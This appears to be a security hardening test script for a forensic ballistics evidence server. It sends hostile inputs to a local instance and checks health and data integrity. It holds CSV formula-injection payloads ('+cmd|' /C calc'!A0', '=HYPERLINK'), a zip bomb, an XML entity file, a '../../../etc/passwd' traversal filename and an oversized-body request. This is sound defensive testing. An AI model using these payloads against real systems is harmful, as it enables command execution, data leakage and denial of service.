"""Issue 12's probe list against a real ``ballistic serve`` (a child process on a temporary data folder).

Each hostile or careless input is sent over HTTP; after each one the script checks that the server is
healthy (the process runs, ``/v1/health`` answers 200) and that the data are intact (the baseline
exhibits download byte for byte, their count is as expected, the audit chain verifies). It prints a table
``probe -> expected -> status -> seconds -> healthy -> data intact -> note`` and writes
benchmarks/results/probe_hardening.json. The orphan-evidence probe kills the server with SIGKILL, leaves
the state a crash mid-upload leaves (an original on disk without its database row) and restarts it.

    python benchmarks/probe_hardening.py [--keep]
"""
from __future__ import annotations

import argparse
import base64
import csv
import hashlib
import io
import json
import re
import sys
import tempfile
import time
import zipfile
from pathlib import Path

import httpx
import numpy as np

ROOT = Path(__file__).resolve().parents[1]
sys.path.insert(0, str(ROOT / "tests" / "api"))

from api_helpers import constant_grid_x3p, synthetic_breech_face, x3p_bytes  # noqa: E402

from api.process import ServerProcess  # noqa: E402

ADMIN = "bk_probe-admin-key-0123456789"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def rss_mib(pid: int) -> tuple[float, float]:
    """(current, peak) resident memory of a process, MiB (Linux /proc)."""
    vals = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        k, _, v = line.partition(":")
        if k in ("VmRSS", "VmHWM"):
            vals[k] = int(v.split()[0]) / 1024
    return vals.get("VmRSS", float("nan")), vals.get("VmHWM", float("nan"))


class Probe:
    def __init__(self, work: Path):
        self.work = work
        self.data = work / "data"
        self.rows: list[dict] = []
        self.srv: ServerProcess | None = None
        self.baseline: dict[int, bytes] = {}
        self.n_exhibits = 0

    # ------------------------------------------------------------------ server
    def start(self) -> None:
        self.srv = ServerProcess(self.data, admin_key=ADMIN, workers=1, log=self.work / "server.log",
                                 env={"BALLISTIC_RERANK_K": "5"}).start()

    def admin(self) -> httpx.Client:
        return self.srv.client(ADMIN, timeout=120)

    def key(self, scope: str) -> str:
        with self.admin() as c:
            return c.post("/v1/keys", json={"name": f"probe {scope}", "scope": scope}).json()["key"]

    def upload(self, key: str, data: bytes, name: str, **meta) -> httpx.Response:
        form = {"case_number": meta.pop("case_number", "P-1"), "exhibit_ref": meta.pop("exhibit_ref", name),
                "agency": meta.pop("agency", "probe"), "calibre": meta.pop("calibre", "9mm")}
        form.update({k: str(v) for k, v in meta.items()})
        with self.srv.client(key) as c:
            return c.post("/v1/exhibits", data=form, files={"file": (name, data, "application/octet-stream")})

    def wait_jobs(self, timeout: float = 300) -> None:
        deadline = time.monotonic() + timeout
        with self.admin() as c:
            while time.monotonic() < deadline:
                st = c.get("/v1/status").json()
                if st["jobs"]["queued"] == 0 and st["jobs"]["running"] == 0:
                    return
                time.sleep(0.5)
        raise TimeoutError("jobs still pending")

    # ------------------------------------------------------------------ checks
    def healthy(self) -> bool:
        if self.srv.proc.poll() is not None:
            return False
        try:
            return httpx.get(self.srv.url + "/v1/health", timeout=10).status_code == 200
        except httpx.HTTPError:
            return False

    def intact(self) -> tuple[bool, str]:
        with self.admin() as c:
            total = c.get("/v1/exhibits", params={"limit": 1}).json()["total"]
            if total != self.n_exhibits:
                return False, f"{total} exhibits, expected {self.n_exhibits}"
            for eid, blob in self.baseline.items():
                got = c.get(f"/v1/exhibits/{eid}/original").content
                if got != blob:
                    return False, f"exhibit {eid} original differs"
            v = c.get("/v1/audit/verify").json()
            if not v["ok"]:
                return False, f"audit chain broken at {v['first_bad_seq']}"
        return True, ""

    def record(self, probe: str, expected: str, status, seconds: float, note: str = "", ok: bool | None = None):
        healthy = self.healthy()
        intact, why = self.intact() if healthy else (False, "server down")
        row = {"probe": probe, "expected": expected, "status": status, "seconds": round(seconds, 3),
               "healthy": healthy, "data_intact": intact, "note": (note + ("; " + why if why else "")).strip("; ")}
        if ok is not None:
            row["as_expected"] = ok
        self.rows.append(row)
        print(f"  {probe:<46} {str(status):<8} {'ok' if ok else 'UNEXPECTED' if ok is not None else ''}", flush=True)

    def timed(self, fn):
        t = time.perf_counter()
        r = fn()
        return r, time.perf_counter() - t


def csv_inert(text: str) -> bool:
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            head = cell.lstrip()
            if (cell.startswith(("\t", "\r")) or head.startswith(TRIGGERS)) and not NUMBER.fullmatch(head):
                return False
    return True


def run(work: Path) -> list[dict]:
    p = Probe(work)
    p.start()
    exam, intel = p.key("examiner"), p.key("intelligence")
    scans = {n: x3p_bytes(synthetic_breech_face(s, angle=a)) for n, (s, a) in
             {"a1": (1, 0.0), "a2": (1, 40.0), "b1": (2, 0.0), "b2": (2, 120.0), "c1": (3, 10.0)}.items()}
    # baseline data every probe must leave intact
    hostile = dict(case_number='=HYPERLINK("http://x/?"&A1,"click")', exhibit_ref="@SUM(1+1)",
                   place_text="+cmd|' /C calc'!A0", agency="-2+3+cmd|' /C calc'!A0", lat="-33.9", lon="-151.2")
    ids = {}
    for n in ("a1", "a2", "b1", "b2"):
        meta = {**hostile, "exhibit_ref": f"@SUM({n})"} if n.startswith("a") else {"case_number": f"K-{n}"}
        r = p.upload(exam, scans[n], f"{n}.x3p", **meta)
        assert r.status_code == 201, r.text
        ids[n] = r.json()["id"]
        p.baseline[ids[n]] = scans[n]
    p.n_exhibits = 4
    p.wait_jobs()
    print("probes against", p.srv.url, flush=True)

    # 1. CSV formula injection in the i2 export
    with p.srv.client(exam) as c:
        cand = next(i for i in c.get(f"/v1/exhibits/{ids['a1']}/candidates").json()["items"]
                    if i["candidate"]["id"] == ids["a2"])
        c.post(f"/v1/candidates/{cand['id']}/review", json={"decision": "confirmed"})
    with p.srv.client(intel) as c:
        r, t = p.timed(lambda: c.get("/v1/export/i2.csv"))
    inert = r.status_code == 200 and csv_inert(r.text)
    neg = '-33.9' in r.text
    p.record("1 i2 CSV with =HYPERLINK/@SUM/+cmd metadata", "200, no formula cell", r.status_code, t,
             f"every cell inert: {inert}; negative latitude kept as number: {neg}", ok=inert and neg)

    # 2. memory blow-up: 486 KB of 7900 x 7900 float64 zeros, then degenerate scans
    zero = constant_grid_x3p(work / "zeros.x3p", 7900, 7900).read_bytes()
    before = rss_mib(p.srv.proc.pid)
    r, t = p.timed(lambda: p.upload(exam, zero, "zeros.x3p"))
    after = rss_mib(p.srv.proc.pid)
    p.record(f"2 zero grid 7900x7900 ({len(zero) / 1024:.0f} KB)", "413 fast", r.status_code, t,
             f"server RSS {before[0]:.0f} -> {after[0]:.0f} MiB (peak {after[1]:.0f}); {r.json()['detail'][:90]}",
             ok=r.status_code == 413)
    rng = np.random.default_rng(0)
    few = np.full((200, 200), np.nan)
    few[rng.integers(0, 200, 50), rng.integers(0, 200, 50)] = 1.0
    from ballistic.surface import Surface

    cases = [("2 constant grid 300x300 (17.5 um)", constant_grid_x3p(work / "c.x3p", 300, 300, value=17.5)
              .read_bytes(), 422),
             ("2 all-missing grid (NaN)", constant_grid_x3p(work / "n.x3p", 300, 300, value=float("nan"))
              .read_bytes(), 422),
             ("2 50 measured points", x3p_bytes(Surface(few, 12.5, {})), 422),
             ("2 spacing 1e-6 um (unit error)", x3p_bytes(Surface(rng.normal(size=(100, 100)), 1e-6, {})), 422),
             ("2 1000x1000 at 90 um (job would grow it)", x3p_bytes(Surface(rng.normal(size=(1000, 1000)), 90.0,
                                                                            {})), 413)]
    for name, data, want in cases:
        r, t = p.timed(lambda: p.upload(exam, data, "d.x3p"))
        p.record(name, str(want), r.status_code, t, r.json()["detail"][:100], ok=r.status_code == want)

    # 3. logout must end the session on the server
    with httpx.Client(base_url=p.srv.url, timeout=60, follow_redirects=False) as b:
        page = b.get("/web/login").text
        tok = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
        b.post("/web/login", data={"api_key": exam, "csrf_token": tok})
        saved = b.cookies.get("ballistic_session")
        page = b.get("/web/exhibits")
        tok = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
        b.post("/web/logout", data={"csrf_token": tok})
        b.cookies.set("ballistic_session", saved)
        r, t = p.timed(lambda: b.get("/web/exhibits"))
    p.record("3 cookie saved before logout, reused", "303 to login", r.status_code, t,
             r.headers.get("location", ""), ok=r.status_code in (303, 401) and "login" in r.headers.get("location", ""))

    # 4. feed cursors the server never issued
    for name, cur in (("4 feed cursor hit:999999", base64.urlsafe_b64encode(b"hit:999999").decode().rstrip("=")),
                      ("4 feed cursor malformed", "garbage!")):
        with p.srv.client(intel) as c:
            r, t = p.timed(lambda: c.get("/v1/hits/feed", params={"after": cur}))
        p.record(name, "400", r.status_code, t, str(r.json().get("detail"))[:90], ok=r.status_code == 400)
    with p.srv.client(intel) as c:
        head = c.get("/v1/hits/feed").json()["next_cursor"]
        with p.srv.client(exam) as e:
            c2 = next(i for i in e.get(f"/v1/exhibits/{ids['b1']}/candidates").json()["items"]
                      if i["candidate"]["id"] == ids["b2"])
            e.post(f"/v1/candidates/{c2['id']}/review", json={"decision": "confirmed"})
        r, t = p.timed(lambda: c.get("/v1/hits/feed", params={"after": head}))
    got = len(r.json()["items"])
    p.record("4 valid cursor after a new confirmation", "200, the new hit", r.status_code, t, f"{got} new item(s)",
             ok=r.status_code == 200 and got == 1)

    # 6. validation errors must not echo huge inputs
    r, t = p.timed(lambda: p.upload(exam, scans["b1"], "b1.x3p", place_text="A" * 1_000_000))
    p.record("6 1 MB metadata field", "422, short body", r.status_code, t, f"body {len(r.content)} bytes",
             ok=r.status_code == 422 and len(r.content) < 4000)

    # 7. messages for HTTP users + the other hostile inputs of the attack run
    bad_md5 = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(scans["b1"])) as z, zipfile.ZipFile(bad_md5, "w") as out:
        for i in z.infolist():
            d = z.read(i)
            out.writestr(i, d[:-8] + b"\0" * 8 if i.filename.endswith("data.bin") else d)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_BZIP2) as z:
        z.writestr("main.xml", "<x/>")
        z.writestr("bindata/data.bin", b"\0" * (64 << 20))
    doctype = io.BytesIO()
    with zipfile.ZipFile(doctype, "w") as z:
        z.writestr("main.xml", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')
    others = [("7 point data altered (MD5 mismatch)", bad_md5.getvalue(), "x.x3p", 422),
              ("7 bzip2 zip bomb (64 MiB of zeros)", bomb.getvalue(), "bomb.x3p", 413),
              ("7 DOCTYPE/ENTITY in main.xml", doctype.getvalue(), "e.x3p", 422),
              ("7 not a scan (GIF)", b"GIF89a" + b"\0" * 100, "x.gif", 415),
              ("7 truncated x3p", scans["b1"][: len(scans["b1"]) // 2], "t.x3p", 422),
              ("7 empty file", b"", "e.x3p", 422)]
    for name, data, fname, want in others:
        r, t = p.timed(lambda: p.upload(exam, data, fname))
        detail = str(r.json().get("detail"))
        programmer = bool(re.search(r"\b(?:pass|raise|lower)\s+[a-z]+_[a-z_]+|[a-z]+_[a-z_]+=|upload-[0-9a-f]{16}",
                                    detail))
        p.record(name, str(want), r.status_code, t, ("LIBRARY JARGON: " if programmer else "") + detail[:90],
                 ok=r.status_code == want and not programmer)
    def declared_10gib() -> int:  # raw socket: HTTP clients refuse to send a body shorter than declared
        import socket

        with socket.create_connection(("127.0.0.1", p.srv.port), timeout=30) as sock:
            sock.sendall(f"POST /v1/exhibits HTTP/1.1\r\nHost: 127.0.0.1\r\nX-API-Key: {exam}\r\n"
                         f"Content-Type: multipart/form-data; boundary=x\r\nContent-Length: {10 << 30}\r\n\r\nx"
                         .encode())
            return int(sock.recv(4096).split(b" ", 2)[1])

    status, t = p.timed(declared_10gib)
    p.record("7 declared body of 10 GiB", "413 before reading", status, t, "", ok=status == 413)
    r, t = p.timed(lambda: p.upload("bk_wrong", scans["b1"], "b1.x3p"))
    p.record("7 wrong API key", "401", r.status_code, t, "", ok=r.status_code == 401)
    r, t = p.timed(lambda: p.upload(intel, scans["b1"], "b1.x3p"))
    p.record("7 intelligence key submits", "403", r.status_code, t, "", ok=r.status_code == 403)
    with p.srv.client(intel) as c:
        r, t = p.timed(lambda: c.get(f"/v1/exhibits/{ids['a1']}/original"))
    p.record("7 intelligence key reads evidence", "403", r.status_code, t, "", ok=r.status_code == 403)
    r, t = p.timed(lambda: p.upload(exam, scans["c1"], "../../../etc/passwd\x00.x3p", exhibit_ref="trav"))
    name = r.json().get("original_filename", "") if r.status_code == 201 else ""
    ok = r.status_code == 201 and "/" not in name and "\\" not in name and not any(ord(ch) < 32 for ch in name)
    if r.status_code == 201:
        p.baseline[r.json()["id"]] = scans["c1"]
        p.n_exhibits += 1
    p.record("7 path traversal + NUL in file name", "201, no path, no control char", r.status_code, t,
             f"stored as {name!r}", ok=ok)
    p.wait_jobs()

    # 5. orphan evidence after a crash: kill -9, leave an original without its DB row, restart
    orphan = x3p_bytes(synthetic_breech_face(7))
    sha = hashlib.sha256(orphan).hexdigest()
    p.srv.kill()
    path = p.data / "evidence" / "originals" / sha[:2] / sha[2:4] / sha
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(orphan)
    t0 = time.perf_counter()
    p.start()
    t = time.perf_counter() - t0
    with p.admin() as c:
        rep = c.get("/v1/status").json()["startup"]["orphan_originals"]
        audited = any(e["action"] == "evidence.quarantine" and e["resource_id"] == sha
                      for e in c.get("/v1/audit", params={"limit": 1000}).json()["items"])
    quarantined = (p.data / "evidence" / "quarantine" / sha).is_file() and not path.exists()
    p.record("5 kill -9, orphan original, restart", "quarantined + reported + audited", "restart", t,
             f"start-up report {rep.get('quarantined')} quarantined; in quarantine/: {quarantined}; audited: {audited}",
             ok=rep.get("quarantined") == 1 and quarantined and audited)
    p.srv.stop()
    return p.rows


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--keep", action="store_true", help="keep the temporary data folder")
    a = ap.parse_args()
    work = Path(tempfile.mkdtemp(prefix="ballistic-probe-"))
    try:
        rows = run(work)
    finally:
        if not a.keep:
            import shutil

            shutil.rmtree(work, ignore_errors=True)
    print()
    print(f"| {'probe':<46} | {'expected':<32} | {'status':<7} | {'s':>6} | healthy | intact | as expected | note")
    print("|" + "---|" * 8)
    for r in rows:
        print(f"| {r['probe']:<46} | {r['expected']:<32} | {str(r['status']):<7} | {r['seconds']:>6.2f} | "
              f"{'yes' if r['healthy'] else 'NO':<7} | {'yes' if r['data_intact'] else 'NO':<6} | "
              f"{'yes' if r.get('as_expected') else 'NO':<11} | {r['note']}")
    out = ROOT / "benchmarks" / "results" / "probe_hardening.json"
    out.write_text(json.dumps(rows, indent=2))
    print("wrote", out)
    bad = [r for r in rows if not (r["healthy"] and r["data_intact"] and r.get("as_expected", True))]
    if bad:
        raise SystemExit(f"{len(bad)} probe(s) not as expected")


if __name__ == "__main__":
    main()
